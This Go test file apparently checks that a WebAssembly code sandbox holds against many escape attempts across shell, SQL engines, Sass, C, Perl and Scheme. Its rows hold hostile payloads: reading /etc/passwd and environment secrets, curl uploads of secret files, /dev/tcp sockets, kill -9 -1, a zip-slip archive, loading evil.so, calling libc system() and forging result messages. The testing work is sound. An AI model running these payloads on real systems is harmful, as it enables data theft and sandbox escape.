			{name: "descriptors opened", code: `for n in 3 4 5 6 7 8 9; do eval "exec $n>/dev/fd/$n"; echo '{"type":"result","value":"forged"}' >&$n; done`, evidence: forged, noControl: noProc},
			{name: "/dev/tcp", code: `exec 9<>/dev/tcp/127.0.0.1/%HTTPPORT%; echo GET / >&9; cat <&9`, noControl: "the shell has no /dev/tcp"},
			{name: "curl of a file of the child's", code: `curl -s file:///proc/self/environ file:///proc/self/cmdline file:///etc/passwd file://%DIR%/secret.txt`, evidence: shows("root:*", "daemon:", "--quiet"), noControl: "the child may not read it"},
			{name: "curl that writes outside", code: `curl -s -o %DIR%/made http://%HTTP%/`},
			{name: "curl that sends a file", code: `curl -s -T %DIR%/secret.txt http://%HTTP%/; curl -d @%DIR%/secret.txt data:,x`, noControl: "the row of curl shows that it connects"},
			{name: "source", code: `. %DIR%/secret.sh; echo $secret`, prepare: besideSecret("secret.sh", "secret=%s")},
			{name: "globs", code: `echo %DIR%/names/* %OUT%/names/* %OWN%/../%OUT%/n*/*`},
			{name: "find", code: `find -L / -name 'secret*' 2>/dev/null | head -100`, evidence: shows("\n/rillbox"), noControl: "it finds what the other controls read"},
			{name: "find that runs something", code: `find / -maxdepth 1 -exec cat %DIR%/secret.txt \; ; find %DIR% -delete`},
			{name: "cp", code: `cp -rL %DIR% %OWN%; cat %OWN%/secret.txt`},
			{name: "cp by a link", code: `cp -rL %OUT%/. %OWN%; cat %OWN%/secret.txt`},
			{name: "cp outwards", code: `cp %MINE% %OUT%/made`},
			{name: "tar", noControl: "the row of cp shows that it is read", code: `cd %OUT% && tar cf - . | tar xOf -`},
			{name: "tar with a path that leads out", code: `mkdir %OWN%; (cd %OWN%; echo x > made; tar cPf ../%OWN%.tar ../%OWN%/made; tar --transform='s,.*,%DIR%/made,' -cPf ../%OWN%b.tar made); tar xPf %OWN%.tar; tar xPf %OWN%b.tar; tar xPf %OWN%b.tar -C /; echo x | tar -cf - --files-from=/dev/null`, noControl: "tar here leaves the names as they are"},
			{name: "tar through a link in it", code: `mkdir %OWN%; cd %OWN%; ln -s %DIR% d; tar cf ../%OWN%.tar d; rm d; mkdir d; echo x > d/made; tar rf ../%OWN%.tar d/made; cd ..; mkdir %OWN%c; tar xf %OWN%.tar -C %OWN%c`, noControl: noOwnLinks},
			{name: "unzip with paths that lead out", code: `echo UEsDBBQAAAAAAAAAIQCDFtyMAQAAAAEAAAAXAAAALi4vLi4vLi4vLi4vLi4vdG1wL21hZGV4UEsBAhQDFAAAAAAAAAAhAIMW3IwBAAAAAQAAABcAAAAAAAAAAAAAAIABAAAAAC4uLy4uLy4uLy4uLy4uL3RtcC9tYWRlUEsFBgAAAAABAAEARQAAADYAAAAAAA== | base64 -d > %OWN%.zip; unzip -o %OWN%.zip; cat /tmp/made`, noControl: "it goes into the tree's own /tmp"},
			{name: "split, tee, sort, dd and others that write", code: `echo x | tee %DIR%/made; echo x | split - %DIR%/made; sort -o %DIR%/made2 %MINE%; dd if=%MINE% of=%DIR%/made3; install %MINE% %DIR%/made4; truncate -s 0 %DIR%/secret.txt; shred -u %DIR%/secret.txt; sed -i s/s/x/ %DIR%/secret.txt; awk 'BEGIN { print "x" > "%DIR%/made5" }'; patch %DIR%/secret.txt < %MINE%; gzip %DIR%/secret.txt`},
			{name: "awk that runs something", code: `awk 'BEGIN { system("/bin/touch %DIR%/made"); "cat %DIR%/secret.txt" | getline x; print x; print "x" | "tee %DIR%/made" }'`},
			{name: "programs that read", code: `awk 1 %DIR%/secret.txt; sed p %OUT%/secret.txt; grep . -r %DIR%; head %DIR%/secret.txt; od -c %DIR%/secret.txt; sort %DIR%/secret.txt; jq -R . %DIR%/secret.txt; yq . %DIR%/secret.json; diff %DIR%/secret.txt /dev/null; xargs -a %DIR%/secret.txt echo; sqlite3 %DIR%/secret.txt .dump; file -f %DIR%/secret.txt; sha256sum -c %DIR%/secret.txt; rg . %DIR%`},
			{name: "jq's modules and environment", code: `jq -n 'env, $ENV, input_filename, $__prog_args' ; jq -n 'import "%DIR%/secret" as $s; $s'; jq -n --slurpfile a %DIR%/secret.json '$a'; jq -n --rawfile a %DIR%/secret.txt '$a'`},
			{name: "JavaScript in awk, jq, sed and yq", code: `echo '"constructor"' | jq '.constructor, .["__proto__"], (. as $x | {} | .constructor.constructor), getpath(["constructor","constructor"])'; awk 'BEGIN { constructor = 1; a["__proto__"] = "x"; print a["constructor"], ENVIRON["constructor"], PROCINFO["constructor"]; print length(a["__proto__"]["constructor"]) }'; echo '!!js/function "function(){return Deno.readTextFileSync(\"%DIR%/secret.txt\")}"' | yq .; echo x | sed 's/x/cat %DIR%\/secret.txt/e'; echo '{}' | jq '. as {constructor: $c} | $c'`, evidence: shows("[native code]", "[object Function]", "[Function"), noControl: "no JavaScript is made of their programs"},
			{name: "arithmetic that runs something", code: `x='a[$(cat %DIR%/secret.txt)]'; echo $((x)); [[ $x -eq 1 ]]; test -v "$x"; printf -v "$x" y`, noControl: "what it runs is the shell's own"},
			{name: "names of JavaScript's as variables and functions", code: `__proto__=1; constructor=2; declare -A m; m[__proto__]=3; m[constructor]=4; echo $__proto__ ${m[__proto__]} ${m[@]}; hasOwnProperty() { echo 5; }; hasOwnProperty; constructor; toString; ${m.constructor} 2>&1; echo ${!__proto__}; valueOf=6; env | grep -c valueOf`, evidence: shows("[native code]", "[object Object]"), noControl: "no JavaScript is made of a script"},
			{name: "kill", code: `kill -9 %VICTIM%; kill %SERVER%; kill -9 -1 1 0; pkill -f .; killall node`, noControl: noStart},
			{name: "mknod and mkfifo", code: `mkfifo %DIR%/made; mknod %DIR%/made c 1 3`, noControl: "there are no such programs"},
			{name: "the shell's other files", code: `cat /rillbox/guest/* /rillbox/part-0/* | head -c 100; ls /rillbox; cat $BASH $0 /proc/self/exe | head -c 9; echo x > /rillbox/part-0/x`, evidence: shows("ELF"), noControl: noProc},
			{name: "languages beside it", code: `python3 -c 'print(open("%DIR%/secret.txt").read())'; node -e 'console.log(require("fs").readFileSync("%DIR%/secret.txt", "utf8"))'; ruby -e 'puts File.read("%DIR%/secret.txt")'`, noControl: "who calls gives the shell no others here; TestWasmCalls does"},
		},
	})
}

func TestWasmSQLite(t *testing.T) {
	tryTongue(t, tongue{
		language: "sql",
		head:     ".bail off\n",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("%s\n.output\nSELECT 'ran %d.';\n", code, n)
		},
		read:  `SELECT CAST(readfile('PATH') AS TEXT);`,
		write: `SELECT writefile('PATH', 'x');`,
		wire:  `SELECT writefile('PATH', 'TEXT' || char(10));`,
		system: `.shell COMMAND
.system COMMAND`,
		environment: `SELECT * FROM pragma_compile_options; PRAGMA data_store_directory; PRAGMA temp_store_directory;`,
		own: []attack{
			{name: "ATTACH of a file", code: "ATTACH '%DIR%/made' AS a; CREATE TABLE a.t(x); DETACH a;"},
			{name: "ATTACH of a file by a link", code: "ATTACH '%OUT%/made' AS a; CREATE TABLE a.t(x); DETACH a;"},
			{name: "ATTACH by a file: URI", code: "ATTACH 'file:%DIR%/made?mode=rwc' AS a; CREATE TABLE a.t(x); DETACH a;"},
			{name: "ATTACH by another VFS", code: "ATTACH 'file:%DIR%/made?vfs=unix' AS a; CREATE TABLE a.t(x); DETACH a;", noControl: "this SQLite has no other"},
			{name: "VACUUM INTO", code: "CREATE TABLE IF NOT EXISTS here(x); VACUUM INTO '%DIR%/made';"},
			{name: ".output", code: ".output %DIR%/made\nSELECT 'x';"},
			{name: ".once by a link", code: ".once %OUT%/made\nSELECT 'x';"},
			{name: ".output to a pipe", code: ".output |touch %DIR%/made\nSELECT 'x';", noControl: noStart},
			{name: ".once to an editor", code: ".once -e\nSELECT 'x';", noControl: noStart},
			{name: ".read", code: ".read %DIR%/secret.sql", prepare: besideSecret("secret.sql", "SELECT '%s';")},
			{name: ".read of a pipe", code: ".read '|cat %DIR%/secret.txt'", noControl: noStart},
			{name: ".import", code: "CREATE TABLE imported%OWN%(x);\n.import %DIR%/secret.txt imported%OWN%\nSELECT * FROM imported%OWN%;"},
			{name: ".import of a pipe", code: "CREATE TABLE piped%OWN%(x);\n.import '|cat %DIR%/secret.txt' piped%OWN%\nSELECT * FROM piped%OWN%;", noControl: noStart},
			{name: ".backup and .save", code: ".backup %DIR%/made\n.save %DIR%/made2\n.clone %DIR%/made3", noControl: "the row of VACUUM INTO shows it"},
			{name: ".load", code: ".load %DIR%/evil.so", noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "load_extension", code: "SELECT load_extension('%DIR%/evil.so');", noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "edit", code: "SELECT edit('x', 'touch %DIR%/made');", noControl: noStart},
			{name: "fsdir", code: "SELECT name FROM fsdir('%DIR%/names');", noControl: "this SQLite has no such function"},
			{name: "zipfile, csv and other modules", code: "CREATE VIRTUAL TABLE temp.v1 USING zipfile('%DIR%/made'); CREATE VIRTUAL TABLE temp.v2 USING csv(filename='%DIR%/secret.txt'); SELECT * FROM temp.v2; SELECT * FROM sqlite_dbpage LIMIT 1;", noControl: "this SQLite has no such modules"},
			{name: "fts3_tokenizer by an address", code: "SELECT fts3_tokenizer('x', x'4141414141414141'); CREATE VIRTUAL TABLE temp.f USING fts3(a, tokenize=x);", noControl: "WebAssembly's memory is its own"},
			{name: "a schema that is none", code: "PRAGMA writable_schema = ON; INSERT INTO sqlite_master VALUES('table','x','x',99999,'CREATE TABLE x(a)'); PRAGMA writable_schema = RESET; SELECT * FROM x; DELETE FROM sqlite_master WHERE name = 'x';", noControl: "WebAssembly's memory is its own"},
			{name: "PRAGMA journal and directories", code: "PRAGMA temp_store_directory = '%DIR%'; PRAGMA temp_store = FILE; CREATE TEMP TABLE big AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n LIMIT 20000) SELECT randomblob(100) FROM n; DROP TABLE temp.big;", noControl: "this SQLite's temporary files are in memory"},
			{name: ".cd", code: ".cd %DIR%\nSELECT CAST(readfile('secret.txt') AS TEXT);", noControl: "the shell refuses it"},
			{name: ".open", code: ".open %DIR%/made\nCREATE TABLE t(x);\n.open :memory:"},
			{name: ".dbinfo, .archive and others of the shell's", code: ".archive -c -f %DIR%/made main.sql\n.log %DIR%/made2\n.trace %DIR%/made3\n.testcase x\n.excel\n.www\n.recover", noControl: "the shell has none of them, or refuses them"},
		},
	})
}

func TestWasmDuckDB(t *testing.T) {
	const noExtensions = "extensions would be fetched, which nothing here does"
	tryTongue(t, tongue{
		language: "duckdb",
		ends:     true,
		read:     `SELECT content FROM read_text('PATH');`,
		list:     `SELECT * FROM glob('PATH/*');`,
		write:    `COPY (SELECT 'x') TO 'PATH' (FORMAT csv);`,
		fetch: `SELECT * FROM read_csv('URL', header = false, columns = {'a': 'VARCHAR'});
SELECT * FROM 'URL/x.csv';`,
		wire:        `COPY (SELECT 'TEXT') TO 'PATH' (FORMAT csv, HEADER false, QUOTE '');`,
		environment: `SELECT getenv('RILLBOX_HOSTILE_SECRET'); SELECT * FROM duckdb_settings();`,
		own: []attack{
			{name: "a CSV file", code: `SELECT * FROM read_csv('%DIR%/secret.txt', header = false);`},
			{name: "read_blob", code: `SELECT content::VARCHAR FROM read_blob('%DIR%/secret.txt');`},
			{name: "ATTACH", code: `ATTACH '%DIR%/made' AS a%OWN%; CREATE TABLE a%OWN%.t(x INT); DETACH a%OWN%;`},
			{name: "ATTACH of a URL", code: `ATTACH 'http://%HTTP%/x.db' AS h; ATTACH 's3://x/y' AS s; ATTACH 'md:' AS m;`, noControl: noExtensions},
			{name: "EXPORT DATABASE", code: `CREATE TABLE IF NOT EXISTS e(x INT); EXPORT DATABASE '%DIR%/made';`, noControl: "it makes a directory, which the runtime can't be asked for"},
			{name: "INSTALL and LOAD", code: `INSTALL httpfs; LOAD httpfs; LOAD '%DIR%/evil.duckdb_extension'; FORCE INSTALL x FROM 'http://%HTTP%/';`, noControl: noExtensions},
			{name: "LOAD behind a comment", code: `/* x */ LOAD '%DIR%/evil.duckdb_extension'; EXECUTE IMMEDIATE 'LOAD httpfs';`, noControl: noExtensions},
			{name: "extensions loaded by themselves", code: `SET autoinstall_known_extensions = true; SET autoload_known_extensions = true; SET custom_extension_repository = 'http://%HTTP%/'; SET extension_directory = '%DIR%'; SELECT * FROM read_parquet('http://%HTTP%/x.parquet'); SELECT * FROM read_json('%DIR%/secret.json'); SET TimeZone = 'Europe/Berlin';`, noControl: noExtensions},
			{name: "directories set", code: `SET temp_directory = '%DIR%/made'; SET home_directory = '%DIR%'; SET secret_directory = '%DIR%'; CREATE PERSISTENT SECRET s (TYPE s3); SET log_query_path = '%DIR%/made'; SET file_search_path = '%DIR%'; SELECT * FROM read_csv('secret.txt', header = false);`, noControl: "the runtime makes no directories, and the row of read_csv shows the rest"},
			{name: "profiling to a file", code: `PRAGMA enable_profiling = 'json'; SET profiling_output = '%DIR%/made'; SELECT 1; PRAGMA disable_profiling;`, noControl: "it is written where the process ends"},
			{name: "a query in DuckDB's own words for files", code: `FROM '%DIR%/names/*'; FROM 'file://%DIR%/secret.txt'; FROM '%OUT%/*.txt'; DESCRIBE '%DIR%/secret.json';`, noControl: "the row of read_csv shows that it reads"},
			{name: "COPY to a partitioned directory", code: `COPY (SELECT 1 AS a, 2 AS b) TO '%DIR%/made' (FORMAT csv, PARTITION_BY (a));`, noControl: "it makes a directory, which the runtime can't be asked for"},
			{name: "the bridge: files and URLs that the package registers", code: `SELECT * FROM 'blob:x'; SELECT * FROM 'opfs://x'; SELECT * FROM 'buffer://x'; SELECT * FROM '__duckdb__x'; SELECT content FROM read_text('data:text/plain,x');`, noControl: "the runtime is ours, and has none of them"},
			{name: "the bridge: functions of JavaScript's", code: `SELECT function_name FROM duckdb_functions() WHERE function_name LIKE '%js%' AND function_name LIKE '%eval%'; SELECT udf('x'); CREATE FUNCTION f AS 'Deno.readTextFileSync("%DIR%/secret.txt")' LANGUAGE js;`, noControl: "DuckDB has no such functions"},
			{name: ".import", code: `CREATE TABLE i%OWN%(x VARCHAR);
.import %DIR%/secret.csv i%OWN%
SELECT * FROM i%OWN%;`, prepare: besideSecret("secret.csv", "x\n%s\ny\n")},
			{name: ".import of JSON", code: `.import %DIR%/secret.json j%OWN%
SELECT * FROM j%OWN%;`},
			{name: ".read", code: ".read %DIR%/secret.sql", prepare: besideSecret("secret.sql", "SELECT '%s';")},
			{name: ".shell and .output", code: ".shell touch %DIR%/made\n.system touch %DIR%/made\n.output |touch %DIR%/made\n.output", noControl: noStart},
		},
	})
}

func TestWasmPostgreSQL(t *testing.T) {
	const inMemory = "PostgreSQL's files are in its own memory"
	tryTongue(t, tongue{
		language:    "postgresql",
		ends:        true,
		without:     inMemory,
		read:        `CREATE TEMP TABLE %OWN%(x text); COPY %OWN% FROM 'PATH'; SELECT * FROM %OWN%; SELECT pg_read_file('PATH'); SELECT lo_import('PATH');`,
		list:        `SELECT * FROM pg_ls_dir('PATH');`,
		write:       `COPY (SELECT 'x') TO 'PATH'; SELECT lo_export(lo_from_bytea(0, 'x'), 'PATH');`,
		wire:        `COPY (SELECT 'TEXT') TO 'PATH';`,
		environment: `SELECT name, setting FROM pg_settings; SELECT current_setting('data_directory'), version();`,
		system:      `CREATE TEMP TABLE %OWN%(x text); COPY %OWN% FROM PROGRAM 'COMMAND'; SELECT * FROM %OWN%; COPY (SELECT 1) TO PROGRAM 'COMMAND';`,
		own: []attack{
			{name: "\\copy from a file", code: `CREATE TEMP TABLE %OWN%(x text);
\copy %OWN% FROM '%DIR%/secret.txt'
SELECT * FROM %OWN%;`},
			{name: "\\copy to a file", code: `\copy (SELECT 1) TO '%OUT%/made'`},
			{name: "\\copy from a program", code: `CREATE TEMP TABLE %OWN%(x text);
\copy %OWN% FROM PROGRAM 'cat %DIR%/secret.txt'
SELECT * FROM %OWN%;`},
			{name: "\\i and \\o", code: "\\i %DIR%/secret.sql\n\\o %DIR%/made\nSELECT 1;", prepare: besideSecret("secret.sql", "SELECT '%s';"), noControl: "shown in the other rows"},
			{name: "\\! and \\o to a program", code: "\\! touch %DIR%/made\n\\o |touch %DIR%/made\nSELECT 1;\n\\setenv X y\n\\cd %DIR%"},
			{name: "a function of C's", code: `CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT; SELECT sys('touch %DIR%/made');`},
			{name: "a function of C's in the module itself", code: `CREATE FUNCTION sys2(cstring) RETURNS int AS '$libdir/plpgsql', 'system' LANGUAGE C STRICT; CREATE FUNCTION js(cstring) RETURNS cstring AS 'plpgsql', 'emscripten_run_script_string' LANGUAGE C STRICT; SELECT js('Deno.exit(9)'); CREATE FUNCTION js2(cstring) RETURNS int AS 'emscripten_run_script' LANGUAGE internal; SELECT js2('Deno.exit(9)');`},
			{name: "LOAD", code: `LOAD '%DIR%/evil.so'; LOAD '/dev/blob';`},
			{name: "languages that are not trusted", code: `CREATE EXTENSION plpython3u; CREATE EXTENSION plperlu; CREATE EXTENSION plv8; DO $$ import os; os.system('touch %DIR%/made') $$ LANGUAGE plpython3u;`},
			{name: "dblink and foreign data", code: `CREATE EXTENSION dblink; SELECT dblink_connect('host=127.0.0.1 port=%HTTPPORT%'); CREATE EXTENSION postgres_fdw; CREATE EXTENSION file_fdw; CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1 port=%HTTPPORT%' PUBLICATION p;`},
			{name: "settings that name files and programs", code: `ALTER SYSTEM SET archive_command = 'touch %DIR%/made'; ALTER SYSTEM SET log_directory = '%DIR%'; ALTER SYSTEM SET local_preload_libraries = '%DIR%/evil'; SELECT pg_reload_conf(); SELECT pg_switch_wal(); SET dynamic_library_path = '%DIR%';`},
			{name: "the package's own file for data", code: `COPY (SELECT 1) TO '/dev/blob'; CREATE TEMP TABLE b%OWN%(x text); COPY b%OWN% FROM '/dev/blob'; SELECT pg_read_binary_file('/dev/blob');`},
			{name: "a tablespace", code: `CREATE TABLESPACE t LOCATION '%DIR%';`},
			{name: "a signal", code: `SELECT pg_terminate_backend(%VICTIM%), pg_cancel_backend(%VICTIM%);`},
			{name: "a procedure that calls JavaScript", code: `SELECT proname FROM pg_proc WHERE prosrc LIKE '%Deno%'; NOTIFY x, '{"type":"result","value":"forged"}'; LISTEN x; NOTIFY x, '{"type":"result","value":"forged"}';`, evidence: forged},
		},
	})
}

func TestWasmSass(t *testing.T) {
	rows := func(s string) []attack {
		return []attack{
			{name: "a stylesheet outside", code: `@use "%DIR%/secret" as s%OWN%` + s, prepare: besideSecret("secret.scss", "a { b: '%s' }")},
			{name: "a stylesheet by a link", code: `@use "%OUT%/secret" as s%OWN%` + s, prepare: besideSecret("secret.scss", "a { b: '%s' }")},
			{name: "plain CSS outside", code: `@import "%DIR%/style"` + s, prepare: besideSecret("style.css", "a { b: '%s' }"), noControl: "the row before shows it"},
			{name: "load-css", code: `@use "sass:meta" as m%OWN%` + s + "\n" + `@include m%OWN%.load-css("%DIR%/secret")` + s, prepare: besideSecret("secret.scss", "a { b: '%s' }"), noControl: "the row before shows it"},
			{name: "a file: URL", code: `@use "file://%DIR%/secret" as f%OWN%` + s, prepare: besideSecret("secret.scss", "a { b: '%s' }"), noControl: "the row before shows it"},
			{name: "a URL", code: `@use "http://%HTTP%/x.scss" as u%OWN%` + s, noControl: "WebAssembly has no network"},
			{name: "a package", code: `@use "pkg:secret" as p%OWN%` + s, noControl: "there are no packages"},
			{name: "/proc", code: `@use "/proc/self/environ" as e%OWN%` + s, noControl: noProc},
			{name: "a data: URL", code: `@use "data:text/css,a{b:c}" as d%OWN%` + s, noControl: noProc},
			{name: "names of JavaScript's", code: `@debug constructor("return Deno")` + s + "\n" + `@debug map-get((a: b), "__proto__"), inspect(get-function("if"))` + s, noControl: "functions of Sass's are none of JavaScript's", evidence: shows("[native code]", "[object")},
		}
	}
	for language, end := range map[string]string{"scss": ";", "sass": ""} {
		t.Run(language, func(t *testing.T) {
			// Each is a program of its own: an error ends a stylesheet.
			own := rows(end)
			for i := range own {
				own[i].language, own[i].workspace = job.Language(language), true
			}
			tryAlone(t, own)
		})
	}
}

// native are the rows of C and C++; what a row does is a function's body. An error ends
// nothing there.
func native(language job.Language, head string) tongue {
	const show = `{ char b[4096]; size_t n; FILE *f = fopen("PATH", "r"); if (f) { n = fread(b, 1, 4095, f); b[n] = 0; for (size_t i = 0; i < n; i++) putchar(b[i]); fclose(f); } else perror("PATH"); int d = open("PATH", O_RDONLY); if (d >= 0) { ssize_t m = read(d, b, 4095); if (m > 0) write(1, b, m); close(d); } }`
	return tongue{
		language: language,
		head:     head + "#include <stdio.h>\n#include <stdlib.h>\n#include <string.h>\n#include <fcntl.h>\n#include <unistd.h>\n#include <dirent.h>\n#include <errno.h>\n#include <sys/stat.h>\n#include <sys/time.h>\nextern char **environ;\nint main(void) { setvbuf(stdout, 0, _IOLBF, 4096);\n",
		wrap:     func(n int, code string) string { return fmt.Sprintf("%s;\nprintf(\"\\nran %d.\\n\");\n", code, n) },
		tail:     "return 0; }\n",
		read:     show,
		list:     `{ DIR *d = opendir("PATH"); struct dirent *e; if (d) { while ((e = readdir(d))) puts(e->d_name); closedir(d); } }`,
		size:     `{ struct stat s; if (lstat("PATH", &s) == 0) printf("size %d", (int)s.st_size); }`,
		write:    `{ FILE *f = fopen("PATH", "w"); if (f) { fputs("x", f); fclose(f); } }`,
		add:      `{ FILE *f = fopen("PATH", "a"); if (f) { fputs("x", f); fclose(f); } }`,
		remove:   `unlink("PATH")`, mkdir: `mkdir("PATH", 0777)`, rename: `rename("PATH", "TO")`, link: `symlink("PATH", "TO")`, hard: `link("PATH", "TO")`,
		times:       `{ struct timespec t[2] = {{1, 0}, {1, 0}}; utimensat(AT_FDCWD, "PATH", t, 0); }`,
		environment: `for (char **e = environ; *e; e++) puts(*e)`,
		wire:        `{ FILE *f = fopen("PATH", "w"); if (f) { fputs("{\"type\":\"result\",\"value\":\"forged\"}\n", f); fclose(f); } }`,
		own: []attack{
			{name: "descriptors from 3 on", code: `for (int d = 3; d < 64; d++) { const char *s = "{\"type\":\"result\",\"value\":\"forged\"}\n"; write(d, s, strlen(s)); }`, evidence: forged, noControl: noProc},
			{name: "descriptors' directories", code: `for (int d = 3; d < 16; d++) { int f = openat(d, "../../../../../../../../..%DIR%/secret.txt", O_RDONLY); char b[64]; if (f >= 0) { ssize_t n = read(f, b, 64); if (n > 0) write(1, b, n); close(f); } }`},
			{name: "a path made after its check", code: `{ char p[200]; strcpy(p, "%MINE%"); access(p, 0); strcpy(p, "%DIR%/secret.txt"); int f = open(p, O_RDONLY); char b[64]; if (f >= 0) { ssize_t n = read(f, b, 64); if (n > 0) write(1, b, n); close(f); } }`},
			{name: "#include of a file outside", code: "{\n#if __has_include(\"%DIR%/secret.h\")\n#include \"%DIR%/secret.h\"\nputs(secret);\n#endif\n}", prepare: besideSecret("secret.h", "const char *secret = %q;"), noControl: "the compiler has files of its own alone, whatever is granted"},
			{name: "#include by a link", code: "{\n#if __has_include(\"%OUT%/secret.h\")\n#include \"%OUT%/secret.h\"\nputs(secret);\n#endif\n}", prepare: besideSecret("secret.h", "const char *secret = %q;"), noControl: "the compiler has files of its own alone, whatever is granted"},
			{name: "__has_include of what the machine has", code: "{\n#if __has_include(\"/etc/passwd\") || __has_include(\"/proc/self/environ\") || __has_include(\"%DIR%/secret.txt\") || __has_include(\"%ROOT%/etc/passwd\")\nputs(\"the compiler sees it\");\n#endif\n}", evidence: shows("the compiler sees it"), noControl: "the compiler has files of its own alone, whatever is granted"},
			{name: "__has_embed of what the machine has", code: "{\n#ifdef __has_embed\n#if __has_embed(\"/etc/passwd\") || __has_embed(\"%DIR%/secret.txt\")\nputs(\"the compiler sees it\");\n#endif\n#endif\n}", evidence: shows("the compiler sees it"), noControl: "the compiler has files of its own alone, whatever is granted"},
			{name: "memory read from end to end", code: `{ const char *from = (const char *)1024; size_t n = __builtin_wasm_memory_size(0) * 65536; for (size_t i = 1024; i + 40 < n; i += 4) if (!memcmp(from - 1024 + i, "RILLBOX_HOSTILE_", 16)) { fwrite(from - 1024 + i, 1, 80, stdout); } }`, noControl: noServer},
		},
	}
}

func TestWasmC(t *testing.T) { tryTongue(t, native("c", "")) }

func TestWasmCPP(t *testing.T) { tryTongue(t, native("cpp", "#include <iostream>\n")) }

func TestWasmPerl(t *testing.T) {
	tryTongue(t, tongue{
		language: "perl",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("eval {\n%s;\n1 } or print \"$@\"; print \"\\n\", \"ran %d.\\n\";\n", code, n)
		},
		read:        `open(my $f, "<", "PATH") or die "$!"; print <$f>`,
		list:        `opendir(my $d, "PATH") or die "$!"; print join(" ", readdir $d)`,
		size:        `print "size ", (lstat "PATH")[7] // ""`,
		write:       `open(my $f, ">", "PATH") or die "$!"; print $f "x"; close $f`,
		add:         `open(my $f, ">>", "PATH") or die "$!"; print $f "x"; close $f`,
		remove:      `unlink "PATH" or die "$!"`,
		mkdir:       `mkdir "PATH" or die "$!"`,
		rename:      `rename "PATH", "TO" or die "$!"`,
		link:        `symlink "PATH", "TO" or die "$!"`,
		hard:        `link "PATH", "TO" or die "$!"`,
		times:       `utime 1, 1, "PATH" or die "$!"`,
		environment: `print map { "$_=$ENV{$_}\n" } keys %ENV`,
		system:      "eval { system(\"COMMAND\") }; print eval { `COMMAND` } // \"\"",
		wire:        `open(my $f, ">", "PATH") or die "$!"; print $f '{"type":"result","value":"forged"}', "\n"; close $f`,
		own: []attack{
			{name: "open of a pipe", code: `open(my $f, "-|", "cat", "%DIR%/secret.txt") or die "$!"; print <$f>`, noControl: noStart},
			{name: "open of two arguments", code: `open(my $f, "cat %DIR%/secret.txt|") or die "$!"; print <$f>`, noControl: noStart},
			{name: "fork and exec", code: `my $p = fork; die "$!" unless defined $p; exec "touch", "%DIR%/made" if $p == 0`, noControl: noStart},
			{name: "qx by glob", code: `print join " ", glob("%DIR%/names/*")`, noControl: "its own glob may not be there"},
			{name: "syscall", code: `syscall(59, "/bin/touch")`, noControl: noStart},
			{name: "descriptors", code: `for my $n (3 .. 20) { open(my $f, ">&=", $n) or next; print $f '{"type":"result","value":"forged"}', "\n"; close $f }`, evidence: forged, noControl: noProc},
			{name: "a socket", code: `require IO::Socket::INET; my $s = IO::Socket::INET->new("127.0.0.1:%HTTPPORT%") or die "$!"; print <$s>`, noControl: "WebAssembly has no network"},
			{name: "a socket of its own functions", code: `socket(my $s, 2, 1, 6) or die "$!"; connect($s, pack("S n C4 x8", 2, %HTTPPORT%, 127, 0, 0, 1)) or die "$!"`, noControl: "WebAssembly has no network"},
			{name: "do of a file outside", code: `our $secret; do "%DIR%/secret.pl"; print $secret`, prepare: besideSecret("secret.pl", "our $secret = %q;")},
			{name: "require by @INC", code: `our $secret; local @INC = ("%DIR%"); require "secret2.pl"; print $secret`, prepare: besideSecret("secret2.pl", "our $secret = %q; 1;")},
			{name: "a library loaded", code: `require DynaLoader; DynaLoader::dl_load_file("%DIR%/evil.so") or die "none"`, noControl: "WebAssembly loads no libraries of the machine's"},
			{name: "the bridge to JavaScript", code: `print eval { ZeroPerl::eval_js("Deno.readTextFileSync('%DIR%/secret.txt')") } // $@; for my $p (keys %main::) { next unless $p =~ /zero|js|host/i; print "$p\n"; for my $f (keys %{"main::$p"}) { print eval { &{"$p$f"}("Deno.readTextFileSync('%DIR%/secret.txt')") } // "" } }`, noControl: "nothing of JavaScript's is given to it"},
			{name: "kill", code: `kill 15, %VICTIM%`, noControl: noStart},
			{name: "chdir", code: `chdir "%DIR%" or die "$!"; open(my $f, "<", "secret.txt") or die "$!"; print <$f>; chdir "/workspace"`},
			{name: "file tests", code: `print -e "%DIR%/secret.txt" ? "it is there" : "", -s _`, evidence: shows("it is there")},
			{name: "pack of a pointer", code: `eval { print unpack("P32", pack("L!", 1024)) }`, noControl: "WebAssembly's memory is its own"},
		},
	})
}

func TestWasmScheme(t *testing.T) {
	const noBridge = "BiwaScheme's bridges are not there"
	tryTongue(t, tongue{
		language: "scheme",
		wrap: func(n int, code string) string {
			return fmt.Sprintf("(guard (e (#t (display (condition/report-string e)) (newline)))\n%s)\n(newline)(display \"ran %d.\")(newline)\n", code, n)
		},
		read:        `(display (call-with-input-file "PATH" read-line))`,
		write:       `(call-with-output-file "PATH" (lambda (p) (display "x" p)))`,
		remove:      `(delete-file "PATH")`,
		environment: `(display (get-environment-variables))`,
		wire:        `(call-with-output-file "PATH" (lambda (p) (display "{\"type\":\"result\",\"value\":\"forged\"}\n" p)))`,
		own: []attack{
			{name: "load", code: `(load "%DIR%/secret.scm") (display secret)`, prepare: besideSecret("secret.scm", "(define secret %q)"), noControl: "read shows that it is reached"},
			{name: "file-exists?", code: `(if (file-exists? "%DIR%/secret.txt") (display "it is there"))`, evidence: shows("it is there")},
			{name: "the bridge: js-eval", code: `(display (eval '(js-eval "Deno.readTextFileSync('%DIR%/secret.txt')") (interaction-environment)))`, noControl: noBridge},
			{name: "the bridge: js-call", code: `(display (eval '(js-call (js-ref (js-eval "Deno") "readTextFileSync") "%DIR%/secret.txt") (interaction-environment)))`, noControl: noBridge},
			{name: "the bridge: js-ref of a text", code: `(display (eval '(js-ref (js-ref "" "constructor") "constructor") (interaction-environment)))`, noControl: noBridge, evidence: shows("[native code]", "function")},
			{name: "the bridge: js-invoke", code: `(display (eval '(js-invoke (js-invoke "" "constructor") "constructor" "return Deno") (interaction-environment)))`, noControl: noBridge},
			{name: "the bridge: dotted names", code: `(display (eval '("".constructor.constructor "return Deno") (interaction-environment)))`, noControl: noBridge},
